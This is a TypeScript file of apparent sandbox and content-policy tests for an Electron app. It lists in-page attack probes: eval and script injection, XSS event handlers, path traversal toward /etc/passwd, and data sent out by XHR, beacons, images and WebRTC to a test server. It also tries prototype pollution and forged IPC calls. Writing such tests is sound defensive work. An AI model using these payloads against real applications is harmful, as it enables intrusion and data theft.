/** Where a probe aims: servers of the drill's own, which count who comes. */
export type Aim = {
  /** Its own address on the web server; whoever asks for it has got through. */
  url: string;
  /** Port of a socket that waits for packets. */
  udpPort: number;
};

/**
 * Attacks from inside the page, by name. Each runs by itself in the page and tells `refused` or what it got; a throw
 * is a refusal too. What reaches the server, opens a window, leads the page away or sets `window.hacked` has got
 * through, whatever it tells.
 */
export const PAGE_PROBES: Readonly<Record<string, (aim: Aim) => Promise<string> | string>> = {
  eval: async () => {
    /* The inspector's own evaluation may use eval for as long as its first stretch runs; a page never may. */
    await new Promise((resolve) => setTimeout(resolve, 50));
    return String((0, eval)('1 + 1'));
  },
  'new Function': async () => {
    await new Promise((resolve) => setTimeout(resolve, 50));
    // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- the attack
    return String(new Function('return 1')());
  },
  'code in a timer': async () => {
    await new Promise((resolve) => setTimeout(resolve, 50));
    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the attack
    setTimeout('window.hacked = true', 0);
    return 'refused';
  },
  'inline script': () => {
    const script = document.createElement('script');
    script.textContent = 'window.hacked = true';
    document.body.append(script);
    return 'refused';
  },
  'handler in innerHTML': () => {
    document.body.append(document.createElement('div'));
    (document.body.lastChild as HTMLElement).innerHTML =
      '<img src="x" onerror="window.hacked = true"><svg onload="window.hacked = true"></svg>';
    return 'refused';
  },
  'javascript: link': () => {
    const link = document.createElement('a');
    link.href = 'javascript:void(window.hacked = true)';
    document.body.append(link);
    link.click();
    return 'refused';
  },
  'foreign script': ({ url }) => {
    const script = document.createElement('script');
    script.src = url;
    document.body.append(script);
    return 'refused';
  },
  'script from data:': () => {
    const script = document.createElement('script');
    script.src = 'data:text/javascript,window.hacked=true';
    document.body.append(script);
    return 'refused';
  },
  'script from blob:': () => {
    const script = document.createElement('script');
    script.src = URL.createObjectURL(new Blob(['window.hacked = true'], { type: 'text/javascript' }));
    document.body.append(script);
    return 'refused';
  },
  'import of a data: module': async () => {
    const module = 'data:text/javascript,export default 1';
    await import(/* @vite-ignore */ module);
    return 'loaded';
  },
  'WebAssembly compiled': async () => {
    await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
    return 'compiled';
  },
  'worker from blob:': () =>
    new Promise((resolve) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      worker.onmessage = () => {
        resolve('ran');
      };
      worker.onerror = () => {
        resolve('refused');
      };
      setTimeout(() => {
        resolve('refused');
      }, 1_000);
    }),
  'shared worker': () =>
    new Promise((resolve) => {
      const worker = new SharedWorker('data:text/javascript,onconnect=(e)=>e.ports[0].postMessage(1)');
      worker.port.onmessage = () => {
        resolve('ran');
      };
      setTimeout(() => {
        resolve('refused');
      }, 500);
    }),
  'service worker': async () => {
    await navigator.serviceWorker.register('/index.html');
    return 'registered';
  },
  fetch: async ({ url }) => String((await fetch(url, { mode: 'no-cors' })).status),
  'fetch of a file': async () => String((await fetch('file:///etc/hostname')).status),
  'path traversal': async () => {
    const tries = [
      '/..%2f..%2fpackage.json',
      '/%2e%2e/%2e%2e/package.json',
      '/..\\..\\package.json',
      '/%5c..%5c..',
    ];
    tries.push(
      '/../main/index.js',
      '/..%2fmain%2findex.js',
      '//etc/passwd',
      '/%00',
      '/assets/..%2f..%2fmain%2findex.js',
    );
    for (const path of tries) {
      const answer = await fetch(`app://shuke${path}`, { signal: AbortSignal.timeout(500) }).catch(
        () => null,
      );
      if (answer?.ok) return `read ${path}`;
    }
    return 'refused';
  },
  'another host of our scheme': async () => {
    const answer = await fetch('app://other/index.html').catch(() => null);
    return answer?.ok ? 'read' : 'refused';
  },
  XMLHttpRequest: ({ url }) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => {
        resolve('sent');
      };
      request.onerror = () => {
        resolve('refused');
      };
      request.open('POST', url);
      request.send('secret');
    }),
  sendBeacon: ({ url }) => {
    navigator.sendBeacon(url, 'secret');
    return 'refused';
  },
  WebSocket: ({ url }) =>
    new Promise((resolve) => {
      const socket = new WebSocket(url.replace('http', 'ws'));
      socket.onopen = () => {
        resolve('open');
      };
      socket.onerror = () => {
        resolve('refused');
      };
    }),
  EventSource: ({ url }) => {
    const source = new EventSource(url);
    setTimeout(() => {
      source.close();
    }, 300);
    return 'refused';
  },
  'WebRTC by UDP': async ({ udpPort }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${String(udpPort)}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    peer.close();
    return 'refused';
  },
  'WebRTC by TCP': async ({ url }) => {
    const { port } = new URL(url);
    const urls = [`turn:127.0.0.1:${port}?transport=tcp`, `turns:127.0.0.1:${port}?transport=tcp`];
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'x' }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    peer.close();
    return 'refused';
  },
  'image that carries data out': ({ url }) => {
    new Image().src = `${url}?name=secret`;
    return 'refused';
  },
  'background of a style': ({ url }) => {
    document.body.style.backgroundImage = `url(${url})`;
    return 'refused';
  },
  'import of a style': ({ url }) => {
    const style = document.createElement('style');
    style.textContent = `@import url(${url}); @font-face { font-family: x; src: url(${url}) } body { font-family: x }`;
    document.head.append(style);
    setTimeout(() => {
      style.remove();
    }, 250);
    return 'refused';
  },
  'style sheet': ({ url }) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = url;
    document.head.append(link);
    return 'refused';
  },
  prefetch: ({ url }) => {
    for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest']) {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = url;
      link.setAttribute('as', 'fetch');
      document.head.append(link);
    }
    return 'refused';
  },
  preconnect: ({ url }) => {
    for (const rel of ['preconnect', 'dns-prefetch']) {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = url;
      document.head.append(link);
    }
    return 'refused';
  },
  'sound and film': ({ url }) => {
    for (const kind of ['audio', 'video'] as const) {
      const media = document.createElement(kind);
      media.src = url;
      document.body.append(media);
    }
    return 'refused';
  },
  'object and embed': ({ url }) => {
    const object = document.createElement('object');
    object.data = url;
    const embed = document.createElement('embed');
    embed.src = url;
    document.body.append(object, embed);
    return 'refused';
  },
  'foreign frame': ({ url }) => {
    const frame = document.createElement('iframe');
    frame.src = url;
    document.body.append(frame);
    return 'refused';
  },
  'frame with a document of its own': () => {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<script>parent.hacked = true</script>';
    document.body.append(frame);
    return 'refused';
  },
  'webview tag': ({ url }) => {
    const view = document.createElement('webview');
    view.setAttribute('src', url);
    document.body.append(view);
    return 'refused';
  },
  'form that posts': ({ url }) => {
    const form = document.createElement('form');
    form.action = url;
    form.method = 'post';
    document.body.append(form);
    form.submit();
    return 'refused';
  },
  'meta refresh': ({ url }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${url}`;
    document.head.append(meta);
    return 'refused';
  },
  'meta that loosens the policy': async () => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'Content-Security-Policy';
    meta.content = "script-src * 'unsafe-inline' 'unsafe-eval'";
    document.head.append(meta);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return String((0, eval)('1'));
  },
  'base that leads elsewhere': ({ url }) => {
    const base = document.createElement('base');
    base.href = url;
    document.head.prepend(base);
    const image = new Image();
    image.src = 'x.png';
    const told = image.src.startsWith('http') ? 'moved' : 'refused';
    base.remove();
    return told;
  },
  'window.open': ({ url }) => (window.open(url) === null ? 'refused' : 'opened'),
  'window.open of our own page': () =>
    window.open('app://shuke/index.html') === null ? 'refused' : 'opened',
  'link into a new window': ({ url }) => {
    const link = document.createElement('a');
    link.href = url;
    link.target = '_blank';
    document.body.append(link);
    link.click();
    return 'refused';
  },
  'navigation away': ({ url }) => {
    window.location.href = url;
    return 'refused';
  },
  'navigation to another page of ours': () => {
    window.location.href = 'app://shuke/other.html';
    return 'refused';
  },
  download: () => {
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['x']));
    link.download = 'x.exe';
    document.body.append(link);
    link.click();
    return 'refused';
  },
  geolocation: () =>
    new Promise((resolve) => {
      navigator.geolocation.getCurrentPosition(
        () => {
          resolve('told');
        },
        ({ code }) => {
          /* 1 is a refusal; another code is a permission without a place. */
          resolve(code === 1 ? 'refused' : 'granted');
        },
        { timeout: 3_000 },
      );
    }),
  notification: async () => ((await Notification.requestPermission()) === 'granted' ? 'granted' : 'refused'),
  'clipboard read': async () => {
    const { state } = await navigator.permissions.query({ name: 'clipboard-read' as PermissionName });
    if (state === 'granted') return 'granted';
    await navigator.clipboard.readText();
    return 'read';
  },
  'camera and microphone': async () => {
    const { state } = await navigator.permissions.query({ name: 'camera' });
    if (state === 'granted') return 'granted';
    await navigator.mediaDevices.getUserMedia({ audio: true, video: true });
    return 'opened';
  },
  'picture of the screen': async () => {
    await navigator.mediaDevices.getDisplayMedia({ video: true });
    return 'taken';
  },
  'devices on the wire and in the air': async () => {
    const { usb, hid, serial, bluetooth } = navigator as unknown as Record<
      string,
      | { requestDevice?: (wanted: object) => Promise<unknown>; requestPort?: () => Promise<unknown> }
      | undefined
    >;
    const asks = [
      usb?.requestDevice?.({ filters: [] }),
      hid?.requestDevice?.({ filters: [] }),
      serial?.requestPort?.(),
      bluetooth?.requestDevice?.({ acceptAllDevices: true }),
    ];
    const limit = new Promise((resolve) => setTimeout(resolve, 1_000, null));
    const got = await Promise.all(asks.map((ask) => Promise.race([ask?.catch(() => null), limit])));
    return got.some((device) => device != null && (!Array.isArray(device) || device.length > 0))
      ? 'got'
      : 'refused';
  },
  'MIDI and local fonts': async () => {
    const midi = await navigator.requestMIDIAccess({ sysex: true }).catch(() => null);
    return midi === null ? 'refused' : 'granted';
  },
  'Node and Electron in the page': () => {
    const names = ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', 'global'];
    const found = names.filter((name) => name in window);
    const { shuke } = window as unknown as { shuke: object };
    return found.length === 0 && Object.keys(shuke).sort().join() === 'call,on,takeFile'
      ? 'refused'
      : found.join();
  },
  'bridge replaced': () => {
    const before = (window as unknown as { shuke: { call: unknown } }).shuke.call;
    try {
      (window as unknown as { shuke: { call: unknown } }).shuke.call = () => 'mine';
    } catch {
      /* Frozen, as it should be. */
    }
    return (window as unknown as { shuke: { call: unknown } }).shuke.call === before ? 'refused' : 'replaced';
  },
  'wrong-typed and made-up calls': async () => {
    const { call } = (window as unknown as { shuke: { call(request: unknown): Promise<unknown> } }).shuke;
    const requests: unknown[] = [
      null,
      undefined,
      'customers.list',
      [],
      { channel: null },
      { channel: 'nobody.knows', input: {}, commandId: null },
      { channel: '__proto__.toString', input: {}, commandId: null },
      { channel: 'customers.constructor', input: {}, commandId: null },
      { channel: 'customers.list', input: { offset: -1 }, commandId: null },
      { channel: 'customers.list', input: 'x'.repeat(1_000_000), commandId: null },
      { channel: 'customers.create', input: { name: 'x' }, commandId: 'no uuid' },
      { channel: 'customers.create', input: { name: 'x' }, commandId: { toString: 1 } },
      { channel: 'transfer.preview', input: { token: '/etc/passwd' }, commandId: null },
    ];
    const answers = await Promise.all(requests.map((request) => call(request)));
    const codes = answers.map((answer) => (answer as { error?: { code: string } }).error?.code ?? 'served');
    return codes.every((code) => code.startsWith('ipc.')) ? 'refused' : codes.join();
  },
  'file token made up': async () => {
    const { call } = (window as unknown as { shuke: { call(request: unknown): Promise<unknown> } }).shuke;
    const token = '22222222-2222-4222-8222-222222222222';
    const answer = await call({
      channel: 'transfer.inspect',
      input: { token, override: null },
      commandId: null,
    });
    return (answer as { ok: boolean }).ok ? 'served' : 'refused';
  },
  'file that nobody chose': async () => {
    const { takeFile } = (window as unknown as { shuke: { takeFile(file: unknown): Promise<unknown> } })
      .shuke;
    const files: unknown[] = ['/etc/passwd', { path: '/etc/passwd', name: 'x' }, null];
    files.push(new File(['x'], '/etc/passwd'), Object.assign(new File(['x'], 'x'), { path: '/etc/passwd' }));
    const answers = await Promise.all(files.map((file) => takeFile(file).catch(() => ({ ok: false }))));
    return answers.some((answer) => (answer as { ok: boolean }).ok) ? 'taken' : 'refused';
  },
  'prototype of everything': async () => {
    const { call } = (window as unknown as { shuke: { call(request: unknown): Promise<unknown> } }).shuke;
    const input = JSON.parse(
      '{"__proto__": {"isPolluted": 1}, "constructor": {"prototype": {"isPolluted": 1}}}',
    ) as object;
    await call({ channel: 'settings.setAppearance', input, commandId: crypto.randomUUID() });
    await call({ channel: 'customers.list', input, commandId: null });
    return 'isPolluted' in {} ? 'polluted' : 'refused';
  },
};
